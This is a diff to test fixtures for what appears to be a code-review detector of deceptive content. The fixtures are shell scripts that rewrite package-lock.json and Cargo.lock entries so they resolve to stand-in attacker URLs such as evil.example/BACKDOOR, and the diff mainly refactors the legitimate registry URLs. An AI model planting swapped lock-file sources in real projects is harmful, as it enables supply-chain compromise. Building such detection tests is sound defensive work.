@@ -1,4 +1,6 @@
 /** Content that cannot be seen, or is told to be something else. */
+
+import { usualSources } from '../../../functions/cli/review/usual-sources.ts';
 import type { Deceit } from './deceit.ts';
 
 const content = (name: string, format: string, hidden: string): Deceit => ({
@@ -83,19 +85,19 @@ export const contents: readonly Deceit[] = [
   {
     name: 'a lock file with another place for the same version',
     script: `begin; lock() { printf '{"lockfileVersion":3,"packages":{"node_modules/x":{"version":"1.0.0","resolved":"%s"}}}' "$1" >package-lock.json; }
-      lock https://registry.npmjs.org/x/-/x-1.0.0.tgz; git add -A; git commit -qm l; git branch -f main; lock https://evil.example/BACKDOOR.tgz; save`,
+      lock ${usualSources.npm}x/-/x-1.0.0.tgz; git add -A; git commit -qm l; git branch -f main; lock https://evil.example/BACKDOOR.tgz; save`,
     outcome: 'shown',
   },
   {
     name: 'a lock file with another place for a new version',
     script: `begin; lock() { printf '{"lockfileVersion":3,"packages":{"node_modules/x":{"version":"%s","resolved":"%s"}}}' "$1" "$2" >package-lock.json; }
-      lock 1.0.0 https://registry.npmjs.org/x/-/x-1.0.0.tgz; git add -A; git commit -qm l; git branch -f main; lock 1.0.1 https://evil.example/BACKDOOR.tgz; save`,
+      lock 1.0.0 ${usualSources.npm}x/-/x-1.0.0.tgz; git add -A; git commit -qm l; git branch -f main; lock 1.0.1 https://evil.example/BACKDOOR.tgz; save`,
     outcome: 'shown',
   },
   {
     name: 'a crate from another place',
     script: `begin; lock() { printf 'version = 4\\n\\n[[package]]\\nname = "x"\\nversion = "%s"\\nsource = "%s"\\n' "$1" "$2" >Cargo.lock; }
-      lock 1.0.0 registry+https://github.com/rust-lang/crates.io-index; git add -A; git commit -qm l; git branch -f main; lock 1.0.1 git+https://evil.example/BACKDOOR; save`,
+      lock 1.0.0 ${usualSources.crates}; git add -A; git commit -qm l; git branch -f main; lock 1.0.1 git+https://evil.example/BACKDOOR; save`,
     outcome: 'shown',
   },
 ];
